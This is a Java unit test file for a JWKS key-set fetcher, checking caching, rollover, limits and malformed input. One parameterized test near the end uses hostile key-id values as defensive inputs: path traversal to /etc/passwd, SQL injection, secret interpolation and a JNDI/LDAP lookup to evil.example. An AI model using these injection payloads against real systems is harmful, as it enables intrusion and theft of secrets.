package io.sallyport.verify.key.remote;

import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.egress.FetchAnswer;
import io.sallyport.egress.FetchFailed;
import io.sallyport.egress.Reach;
import io.sallyport.verify.key.KeyLookup;
import io.sallyport.verify.key.KeySource;
import io.vertx.core.Vertx;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Optional;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** {@code jwks:}; row 72 and the part of row 13 that meets remote keys. */
class KeySetTest {
  private static final String JWKS = "https://idp.example.com/keys";
  @TempDir Path data;
  private Vertx vertx;
  private RemoteKeysFixture fixture;
  private FakeFetch fetch;

  @BeforeEach
  void start() {
    vertx = Vertx.vertx();
    fixture = new RemoteKeysFixture(vertx, data);
    fetch = fixture.fetch;
  }

  @AfterEach
  void stop() {
    vertx.close().await();
  }

  private void serve(String... keys) {
    fetch.at(JWKS, AJwk.set(keys));
  }

  @Test
  void findsTheKeyThatIsNamedAndFetchesOnce() {
    serve(AJwk.p256("a"), AJwk.p256("b"));
    KeySource source = fixture.jwks(JWKS);

    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("a");
    assertThat(fixture.found(source, fixture.kid("b"))).isEqualTo("b");
    assertThat(fetch.count(JWKS)).isEqualTo(1);
    assertThat(fetch.requests.get(0).reach()).isEqualTo(Reach.ANY);
  }

  @Test
  void triesAFewKeysWhenTheTokenNamesNone() {
    serve(AJwk.p256("a"), AJwk.p256("b"));
    assertThat(fixture.found(fixture.jwks(JWKS), fixture.token("{}"))).isEqualTo("a b");

    fetch.at(
        "https://idp.example.com/many",
        AJwk.set(IntStream.range(0, 9).mapToObj(i -> AJwk.p256("k" + i)).toArray(String[]::new)));
    assertThat(fixture.found(fixture.jwks("https://idp.example.com/many"), fixture.token("{}")))
        .isEqualTo("key.unknown");
  }

  @Test
  void namesAKeyWithoutAnIdByItsDigest() {
    serve(AJwk.p256("", ""), AJwk.p256("b"));
    KeySource source = fixture.jwks(JWKS);

    assertThat(fixture.found(source, fixture.token("{}"))).matches("[0-9a-f]{8} b");
    assertThat(fixture.found(source, fixture.kid(""))).matches("[0-9a-f]{8} b");
  }

  @Test
  void awaitsTheFetchThatIsUnderWayAndThereIsOnlyOne() {
    fetch.holdsBack = true;
    KeySource source = fixture.jwks(JWKS);

    KeyLookup first = fixture.look(source, fixture.kid("a"));
    KeyLookup second = fixture.look(source, fixture.kid("b"));

    assertThat(first).isInstanceOf(KeyLookup.Awaiting.class);
    assertThat(second).isInstanceOf(KeyLookup.Awaiting.class);
    assertThat(fetch.requests).hasSize(1);
    fetch
        .waiting
        .get(0)
        .complete(
            new FetchAnswer(
                200, Optional.empty(), AJwk.set(AJwk.p256("a")).getBytes(StandardCharsets.UTF_8)));
    ((KeyLookup.Awaiting) first).ready().await();
    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("a");
    assertThat(fixture.found(source, fixture.kid("b"))).isEqualTo("key.unknown");
    assertThat(fetch.requests).hasSize(1);
  }

  @Test
  void row72ARolloverIsFoundByTheNewIdWithoutWaitingForTheOldSetsEnd() {
    serve(AJwk.p256("old"));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("old"));
    serve(AJwk.p256("old"), AJwk.p256("new"));
    fixture.clock.advance(Duration.ofSeconds(30));

    assertThat(fixture.found(source, fixture.kid("new"))).isEqualTo("new");
    assertThat(fixture.found(source, fixture.kid("old"))).isEqualTo("old");
    assertThat(fetch.count(JWKS)).isEqualTo(2);
  }

  @Test
  void row72AKeyThatWasTakenDownIsNoLongerUsedAfterTheFreshTime() {
    serve(AJwk.p256("leaked"), AJwk.p256("good"));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("leaked"));
    serve(AJwk.p256("good"));

    fixture.clock.advance(Duration.ofMinutes(10));

    assertThat(fixture.found(source, fixture.kid("leaked"))).isEqualTo("key.unknown");
  }

  @Test
  void row72AFloodOfUnknownIdsMakesOneFetchAnInterval() {
    serve(AJwk.p256("a"));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("a"));

    for (int second = 0; second < 60; second++) {
      fixture.clock.advance(Duration.ofSeconds(1));
      for (int i = 0; i < 200; i++) {
        assertThat(fixture.found(source, fixture.kid("u" + second + "-" + i)))
            .isEqualTo("key.unknown");
      }
    }

    assertThat(fetch.count(JWKS)).isEqualTo(1 + 2);
  }

  @Test
  void row72TwoKeysOfOneIdAreRefusedAndTheLastGoodSetServesOn() {
    serve(AJwk.p256("a"));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("a"));
    serve(AJwk.p256("a"), AJwk.p256("a"));

    fixture.clock.advance(Duration.ofMinutes(10));

    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("a");
    fixture.clock.advance(Duration.ofHours(24));
    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("key.unavailable");
  }

  @Test
  void row72ASharedSecretInAPublishedSetIsRefused() {
    String shared =
        "{\"kid\":\"s\",\"kty\":\"oct\",\"alg\":\"HS256\",\"k\":\"" + "A".repeat(43) + "\"}";

    serve(AJwk.p256("a"), shared);
    assertThat(fixture.found(fixture.jwks(JWKS), fixture.kid("a"))).isEqualTo("key.unavailable");

    fetch.at("https://idp.example.com/oct", AJwk.set(shared));
    assertThat(fixture.found(fixture.jwks("https://idp.example.com/oct"), fixture.kid("s")))
        .isEqualTo("key.unavailable");
  }

  @Test
  void row72ASetOfTenThousandKeysIsRefused() {
    String key = AJwk.p256("", "");
    String many =
        "{\"keys\":[" + String.join(",", java.util.Collections.nCopies(10_000, key)) + "]}";
    fetch.at(JWKS, many);

    assertThat(fixture.found(fixture.jwks(JWKS), fixture.kid("a"))).isEqualTo("key.unavailable");
  }

  @Test
  void row72TakesAHundredKeysAndNotOneMore() {
    String[] hundred =
        IntStream.range(0, 100).mapToObj(i -> AJwk.p256("k" + i)).toArray(String[]::new);
    serve(hundred);
    assertThat(fixture.found(fixture.jwks(JWKS), fixture.kid("k99"))).isEqualTo("k99");

    String[] more = java.util.Arrays.copyOf(hundred, 101);
    more[100] = AJwk.p256("k100");
    fetch.at("https://idp.example.com/more", AJwk.set(more));
    assertThat(fixture.found(fixture.jwks("https://idp.example.com/more"), fixture.kid("k1")))
        .isEqualTo("key.unavailable");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "not json",
        "[]",
        "{}",
        "{\"keys\":{}}",
        "{\"keys\":[]}",
        "{\"keys\":[1]}",
        "{\"keys\":[{\"kty\":\"EC\",\"kty\":\"RSA\"}]}",
        "{\"keys\":[]} trailing",
      })
  void refusesADocumentThatIsNoKeySet(String body) {
    fetch.at(JWKS, body);

    assertThat(fixture.found(fixture.jwks(JWKS), fixture.token("{}"))).isEqualTo("key.unavailable");
  }

  @Test
  void tellsATransportFaultFromAKeyThatIsNotThere() {
    KeySource source = fixture.jwks(JWKS);
    for (FetchFailed.Fault fault : FetchFailed.Fault.values()) {
      fetch.failWith(fault);
      assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("key.unavailable");
      fixture.clock.advance(Duration.ofSeconds(30));
    }
    fetch.recover();
    fetch.at(JWKS, 404, "{}", Optional.empty());
    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("key.unavailable");
    fixture.clock.advance(Duration.ofSeconds(30));

    serve(AJwk.p256("a"));

    assertThat(fixture.found(source, fixture.kid("b"))).isEqualTo("key.unknown");
  }

  @Test
  void saysUnavailableForAnUnknownIdWhenTheNewerSetCannotBeFetched() {
    serve(AJwk.p256("a"));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("a"));
    fetch.failWith(FetchFailed.Fault.TIMEOUT);
    fixture.clock.advance(Duration.ofSeconds(30));

    assertThat(fixture.found(source, fixture.kid("b"))).isEqualTo("key.unavailable");
    assertThat(fixture.found(source, fixture.kid("a"))).isEqualTo("a");
  }

  @Test
  void remembersAFailureForHalfAMinute() {
    fetch.failWith(FetchFailed.Fault.TIMEOUT);
    KeySource source = fixture.jwks(JWKS);

    for (int i = 0; i < 100; i++) {
      fixture.found(source, fixture.kid("a"));
    }

    assertThat(fetch.count(JWKS)).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "max-age=120 2m",
        "public,max-age=120 2m",
        "max-age=1 1m",
        "no-store 1m",
        "no-cache,max-age=600 1m",
        "max-age=99999999999999999999 24h",
        "max-age=-5 10m",
        "max-age=x 10m",
        "private 10m",
      })
  void usesASetForAsLongAsItSaysWithinBounds(String row) {
    String field = row.split(" ", 2)[0];
    String time = row.split(" ", 2)[1];
    Duration fresh = Duration.parse("PT" + time.toUpperCase(java.util.Locale.ROOT));
    fetch.at(JWKS, 200, AJwk.set(AJwk.p256("a")), Optional.of(field));
    KeySource source = fixture.jwks(JWKS);
    fixture.found(source, fixture.kid("a"));

    fixture.clock.advance(fresh.multipliedBy(4).dividedBy(5).minusNanos(1));
    fixture.found(source, fixture.kid("a"));
    assertThat(fetch.count(JWKS)).isEqualTo(1);
    fixture.clock.advance(fresh);
    fixture.found(source, fixture.kid("a"));
    assertThat(fetch.count(JWKS)).isEqualTo(2);
  }

  /** Row 13: a key id is looked up in a map, and is never a path, a query or an address. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../../etc/passwd",
        "/dev/null",
        "file:///etc/passwd",
        "https://evil.example/keys",
        "' OR 1=1 --",
        "a; DROP TABLE keys",
        "\\u0000",
        "${env:SECRET}",
        "{param:secret}",
        "${jndi:ldap://evil.example/x}",
        "%2e%2e%2f",
      })
  void row13AnIdThatIsAPathOrAnAddressIsJustUnknown(String kid) {
    serve(AJwk.p256("a"));
    KeySource source = fixture.jwks(JWKS);

    assertThat(fixture.found(source, fixture.kid(kid))).isEqualTo("key.unknown");
    assertThat(fetch.requests).allSatisfy(sent -> assertThat(sent.address()).hasToString(JWKS));
  }

  @Test
  void row13AnIdOfAMegabyteIsUnknownWithoutAFetch() {
    KeySource source = fixture.jwks(JWKS);

    assertThat(fixture.found(source, fixture.kid("k".repeat(1_000_000)))).isEqualTo("key.unknown");
    assertThat(fetch.requests).isEmpty();
  }
}
